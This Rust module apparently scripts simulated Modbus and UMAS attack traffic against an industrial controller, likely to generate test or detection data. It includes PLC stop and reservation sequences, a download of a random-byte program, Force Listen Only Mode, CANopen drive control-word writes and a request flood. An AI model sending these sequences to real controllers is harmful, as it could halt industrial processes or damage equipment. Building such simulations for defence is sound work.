//! Attacks on the device itself: diagnostics, programs, firmware, load.

use super::super::pdu;
use super::Script;
use std::time::Duration;

/// Restart with the event log cleared, then Force Listen Only Mode, then polls in vain.
pub(super) fn silence(script: &mut Script) {
    script.pace = Duration::from_secs(1);
    let restart = pdu::words(8, &[1, 0xFF00]);
    script.ask(&restart, &restart);
    script.ask_in_vain(&pdu::words(8, &[4, 0]));
    for _ in 0..6 {
        script.ask_in_vain(&pdu::read(3, 0, 2));
    }
}

/// Clear Counters, Clear Overrun Counter and Flag, Change ASCII Input Delimiter.
pub(super) fn counters(script: &mut Script) {
    for words in [[10, 0], [20, 0], [3, 0x2100]] {
        let request = pdu::words(8, &words);
        script.ask(&request, &request);
    }
}

/// Identification, reservation, stop, a pause, start, release.
pub(super) fn umas_stop(script: &mut Script) {
    script.unit = 0;
    script.pace = Duration::from_millis(200);
    umas(script, 0, 0x02, &[]);
    umas(script, 0, 0x10, b"\x24\x01\x00\x00ENG1");
    umas(script, 1, 0x41, &[0xFF, 0]);
    script.wait(Duration::from_secs(2));
    umas(script, 1, 0x40, &[0xFF, 0]);
    umas(script, 1, 0x11, &[]);
}

/// Reservation, kept for ten seconds: nobody else can have it meanwhile.
pub(super) fn umas_reserve(script: &mut Script) {
    script.unit = 0;
    script.pace = Duration::from_secs(2);
    umas(script, 0, 0x10, b"\x24\x01\x00\x00ENG1");
    for _ in 0..5 {
        umas(script, 1, 0x12, &[]);
    }
}

/// Reservation, then a program of 40 blocks.
pub(super) fn umas_download(script: &mut Script) {
    script.unit = 0;
    script.pace = Duration::from_millis(15);
    umas(script, 0, 0x10, b"\x24\x01\x00\x00ENG1");
    // Download of the memory block 1: begin, blocks, end.
    umas(script, 1, 0x33, &[0, 1]);
    for block in 1..=40 {
        let mut data = vec![0, 1, block, 0, 200, 0];
        data.extend((0..200).map(|_| script.rng.bits() as u8));
        umas(script, 1, 0x34, &data);
    }
    umas(script, 1, 0x35, &[0, 1, 41, 0]);
    umas(script, 1, 0x11, &[]);
}

/// The program of 40 blocks, read out.
pub(super) fn umas_upload(script: &mut Script) {
    script.unit = 0;
    script.pace = Duration::from_millis(15);
    umas(script, 0, 0x30, &[0, 1]);
    for block in 1..=40 {
        umas(script, 0, 0x31, &[0, 1, block, 0, 200, 0]);
    }
    umas(script, 0, 0x32, &[0, 1, 41, 0]);
}

/// The functions of older controllers' programming tools.
pub(super) fn legacy(script: &mut Script) {
    script.pace = Duration::from_millis(120);
    for function in [9, 10, 13, 14, 18, 40, 125, 126] {
        script.ask(&[function, 0, 0, 1], &[function, 0]);
    }
}

/// File 4: four records written and read back.
pub(super) fn files(script: &mut Script) {
    for record in 0..4 {
        let mut write = vec![21, 15];
        write.extend_from_slice(&[6, 0, 4, 0, record, 0, 4]);
        write.extend((0..8).map(|_| script.rng.bits() as u8));
        script.ask(&write, &write);
        read_record(script, record, write.get(9..17).unwrap_or_default());
    }
}

/// File 4: eight records copied.
pub(super) fn copy(script: &mut Script) {
    for record in 0..8 {
        let recipe = script.rng.bits().to_be_bytes();
        read_record(script, record, &recipe);
    }
}

/// A read of a record of file 4, four registers long.
fn read_record(script: &mut Script, record: u8, data: &[u8]) {
    script.ask(&[20, 7, 6, 0, 4, 0, record, 0, 4], &[&[20, 10, 9, 6], data].concat());
}

/// Three drives behind the controller: each one's state read, then its control word written (CiA 309-2).
pub(super) fn canopen(script: &mut Script) {
    const CONTROL_WORD: [u8; 2] = [0x60, 0x40];
    const STATUS_WORD: [u8; 2] = [0x60, 0x41];
    script.pace = Duration::from_millis(120);
    for node in 1..=3 {
        // CiA 309-2: read or write, a reserved byte, the node; then index, subindex, where to begin and how many bytes.
        let object = |access, [high, low]: [u8; 2]| vec![43, 13, access, 0, node, high, low, 0, 0, 0, 0, 2];
        let read = object(0, STATUS_WORD);
        script.ask(&read, &[&read[..], &[0x02, 0x37]].concat());
        let write = object(1, CONTROL_WORD);
        script.ask(&[&write[..], &[0, 0]].concat(), &write);
    }
}

/// 700 reads; the device gives up on the last hundred.
pub(super) fn flood(script: &mut Script) {
    script.pace = Duration::from_micros(700);
    for _ in 0..600 {
        script.ask(&pdu::read(3, 0, 10), &pdu::registers(3, &[1; 10]));
    }
    for _ in 0..100 {
        script.ask_in_vain(&pdu::read(3, 0, 10));
    }
}

/// Writes answered by busy, acknowledge and device failure.
pub(super) fn busy(script: &mut Script) {
    script.pace = Duration::from_millis(400);
    for turn in 0..12 {
        let code = if turn == 11 { 4 } else { 5 + turn % 2 };
        script.ask(&pdu::write_registers(0, &[1; 4]), &pdu::exception(16, code));
    }
}

/// A request of function 90 that the controller accepts.
fn umas(script: &mut Script, session: u8, function: u8, data: &[u8]) {
    let request = [&[90, session, function], data].concat();
    script.ask(&request, &[90, session, 0xFE, 0]);
}
